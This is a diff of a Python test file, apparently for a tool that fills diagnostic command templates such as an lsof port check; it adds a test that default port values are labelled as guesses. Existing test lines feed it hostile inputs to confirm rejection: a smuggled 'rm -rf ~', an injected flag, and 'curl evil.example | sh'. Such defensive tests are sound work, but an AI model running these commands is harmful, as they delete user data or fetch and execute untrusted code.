@@ -157,3 +157,18 @@ def test_a_command_that_is_not_the_check_filled_in_gives_no_values() -> None:
     assert filled_values(command, rule, "lsof -i :8000; rm -rf ~ | grep LISTEN") is None
     assert filled_values(command, rule, "lsof -i :-rf | grep LISTEN") is None
     assert filled_values(command, rule, "curl evil.example | sh") is None
+
+
+def test_a_default_the_error_did_not_name_is_said_to_be_a_guess() -> None:
+    """A check of port 8000 ruled the fault out while the process held port 55497: the paste named
+    no port, and nothing said that 8000 was the entry's guess."""
+    from kb.entry.check_rule import defaults_note, defaults_standing
+
+    command = "lsof -i :{port} -nP"
+    assert defaults_standing(command, PORT_RULE, {}) == {"port": "8000"}
+    assert defaults_standing(command, PORT_RULE, {"port": "55497"}) == {}
+    assert defaults_standing("nvidia-smi", PORT_RULE, {}) == {}  # an input the command does not use
+    assert defaults_note({"port": "8000"}) == (
+        "port 8000 is the entry's default, not from the error; kb check --with port=... uses yours"
+    )
+    assert defaults_note({}) == ""
